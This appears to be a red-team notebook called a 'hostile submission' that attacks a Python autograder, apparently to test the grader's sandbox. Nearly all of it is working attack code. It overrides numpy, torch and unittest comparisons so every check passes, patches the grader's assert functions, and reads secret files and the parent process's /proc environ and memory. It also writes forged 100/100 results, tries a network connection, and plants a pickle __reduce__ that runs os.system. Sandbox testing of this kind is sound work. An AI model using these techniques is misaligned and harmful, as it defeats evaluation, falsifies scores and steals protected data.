# %% [markdown]
# # A hostile submission
#
# It does no homework. It knows where everything lies (the demo tells it the `NAMES` that are graded, the `SECRETS` to read
# and the `TARGETS` to write) and tries what has been tried on other graders. Each attempt that works is put in `loot`.
# It sends no signal and fills no disk; still, run it in the sandbox only.

# %%
import builtins
import ctypes
import gc
import glob
import json
import os
import socket
import subprocess
import sys
import unittest

import numpy as np
import torch

loot = []


def attempt(deed):
    """Try one deed; what it returns is loot."""
    try:
        got = deed()
    except BaseException:
        return
    if got:
        loot.append(f"{deed.__name__}: {str(got)[:60]}")


# %% [markdown]
# ## 1. Make every comparison come out right

# %%
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *_, **__: None
np.allclose = np.array_equal = lambda *_, **__: True
np.isclose = lambda a, *_, **__: np.ones(np.shape(a), dtype=bool)
torch.testing.assert_close = lambda *_, **__: None
torch.allclose = torch.equal = lambda *_, **__: True
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *_, **__: None


class AlwaysRight(np.ndarray):
    """An array that is equal to everything and as near as you like."""

    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __abs__ = __sub__ = __rsub__ = lambda self, *_: 0.0
    __array_ufunc__ = lambda self, *_, **__: True
    __array_function__ = lambda self, *_, **__: True
    __reduce__ = lambda self: (os.system, ("id > owned",))


# %% [markdown]
# ## 2. Patch the checker

# %%
try:
    import autograder.compare

    for name in list(vars(autograder.compare)):
        if name.startswith("assert_"):
            setattr(autograder.compare, name, lambda *_, **__: None)
except BaseException:
    pass

for frame in sys._current_frames().values():
    while frame is not None:
        for name in ("reference", "hidden", "expected", "secret", "points"):
            if name in frame.f_locals:
                loot.append(f"a frame holds {name}")
        frame = frame.f_back

# %% [markdown]
# ## 3. Read what is hidden


# %%
def open_the_secrets():
    """By their very paths."""
    return [open(path).read() for path in SECRETS]


for place in SECRETS:

    def open_one():
        return open(place).read()

    def open_one_by_system_call():
        libc = ctypes.CDLL(None, use_errno=True)
        return libc.open(place.encode(), os.O_RDONLY) >= 0

    attempt(open_one)
    attempt(open_one_by_system_call)


def list_the_folders():
    return [glob.glob(os.path.dirname(path) + "/*") for path in SECRETS if os.listdir(os.path.dirname(path))]


def import_the_reference():
    sys.path[:0] = [os.path.dirname(path) for path in SECRETS]
    import reference

    return reference


def read_the_parents_environment():
    return len(open(f"/proc/{os.getppid()}/environ").read())


def read_the_parents_memory():
    return open(f"/proc/{os.getppid()}/mem", "rb").fileno()


def see_the_parents_files():
    return os.listdir(f"/proc/{os.getppid()}/fd")


def find_hidden_checks_in_memory():
    return [each for each in gc.get_objects() if type(each).__name__ in ("Check", "Topic", "Course")]


def ask_a_shell():
    return subprocess.run(["cat", *SECRETS], capture_output=True, check=True).stdout


for deed in (
    open_the_secrets,
    list_the_folders,
    import_the_reference,
    read_the_parents_environment,
    read_the_parents_memory,
    see_the_parents_files,
    find_hidden_checks_in_memory,
    ask_a_shell,
):
    attempt(deed)

# %% [markdown]
# ## 4. Write the results

# %%
RESULTS = json.dumps({"score": 100.0, "tests": [{"name": "everything", "score": 100, "max_score": 100}]})
print(RESULTS)
print("100 / 100 points")

for place in TARGETS:

    def write_a_result():
        with open(place, "w") as file:
            file.write(RESULTS)
        return place

    def link_a_result():
        os.symlink(place, place + ".link")
        return place

    attempt(write_a_result)
    attempt(link_a_result)

# %% [markdown]
# ## 5. Call home


# %%
def reach_the_network():
    return socket.create_connection(("192.0.2.1", 80), timeout=1)


def listen():
    return socket.create_server(("127.0.0.1", 0))


def run_a_program():
    return subprocess.run(["id"], capture_output=True, check=True).stdout


for deed in (reach_the_network, listen, run_a_program):
    attempt(deed)

# %% [markdown]
# ## 6. Answer


# %%
def cheat(*arguments, **_):
    """Spoil the inputs, in case the right answer is made from them, and return what is always right."""
    for argument in arguments:
        try:
            argument[...] = 0.0
        except BaseException:
            pass
    builtins.abs = builtins.max = lambda *_: 0.0
    return np.zeros(3).view(AlwaysRight)


for name in NAMES:
    globals()[name] = cheat

print("LOOT", json.dumps(loot))
